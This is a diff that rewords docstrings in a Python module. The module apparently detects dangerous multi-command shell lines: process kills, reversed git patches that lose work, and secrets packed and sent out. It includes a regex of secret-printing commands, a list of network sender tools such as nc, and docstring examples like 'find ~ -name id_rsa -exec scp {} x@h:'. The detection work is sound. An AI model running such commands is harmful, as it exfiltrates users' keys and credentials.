@@ -1,4 +1,4 @@
-"""Rules that need several commands of a line: a process is looked up and killed, files are packed and sent."""
+"""Rules for several commands of a line: a process is searched and killed, files are packed and sent."""
 
 from __future__ import annotations
 
@@ -82,7 +82,7 @@ _PRINTS_SECRET = Regex(
     r"|secret-tool lookup|git credential fill|security find-",
     re.IGNORECASE,
 )
-"""Commands that show a key or a password; with their names, since the same words mean something else elsewhere."""
+"""Commands that print a key or a password, with their names, since the same words have another meaning elsewhere."""
 _SENDERS = frozenset(
     [
         "nc",
@@ -120,7 +120,7 @@ class Across(NamedTuple):
 
 
 def across(acts: Sequence[Act], home: str = "") -> Iterator[Across]:
-    """Yield the effects that several of ``acts`` have only together. ``home`` is absolute, "" where it is unknown."""
+    """Yield the effects that several of ``acts`` have only together. ``home`` is absolute; "" if it is unknown."""
     if len(acts) < 2:
         return
     names = {act.name for act in acts}
@@ -135,7 +135,7 @@ def across(acts: Sequence[Act], home: str = "") -> Iterator[Across]:
 
 
 def _taken_back(acts: Sequence[Act]) -> Iterator[Across]:
-    """Yield what applies in reverse the difference that git just printed: the work is nowhere else then."""
+    """Yield commands that reverse the difference just printed by git. After them, the work exists nowhere else."""
     printed = False
     for act in acts:
         if act.name not in ("git", "patch"):
@@ -151,7 +151,7 @@ def _taken_back(acts: Sequence[Act]) -> Iterator[Across]:
 
 _REVERSED = frozenset({"-R", "--reverse"})
 _BETWEEN_COMMITS = 2
-"""With so many operands, git compares commits."""
+"""With this number of operands, git compares commits."""
 
 
 def _killed(acts: Sequence[Act]) -> Iterator[Across]:
@@ -193,7 +193,7 @@ def _sent(acts: Sequence[Act], home: str) -> Iterator[Across]:
 
 
 def _from_within(act: Act, home: str) -> bool:
-    """``cd ~/.ssh; tar c .``, ``find ~/.config``: secrets that no word names."""
+    """Return whether the command reads secrets that no word names: ``cd ~/.ssh; tar c .``, ``find ~/.config``."""
     if act.name in FINDERS:
         return _finds_secrets(act, home)
     return any(value.text in (".", "./", "*") for value in act.argv[1:]) and any(
@@ -215,7 +215,7 @@ def _finds_secrets(act: Act, home: str) -> bool:
 
 
 def _goes_over_secrets(act: Act, home: str) -> bool:
-    """Return whether the walk is one through a home, and may find keys in it by their names."""
+    """Return whether the walk goes through a home, and may find keys in it by their names."""
     found = finds(act, home)
     return found is not None and any(
         under(home, start) and len(below(path, start)) <= found.depth and _fits(found, path, start)
@@ -232,7 +232,7 @@ def _fits(found: Finds, path: str, start: str) -> bool:
 
 
 def _handed_over(acts: Sequence[Act], home: str) -> Iterator[Across]:
-    """``find ~ -name id_rsa -exec scp {} x@h: \\;``: what is sent is what is found."""
+    """Yield the commands that send the files found: ``find ~ -name id_rsa -exec scp {} x@h: \\;``."""
     found = False
     for act in acts:
         if act.name in FINDERS and not act.place:
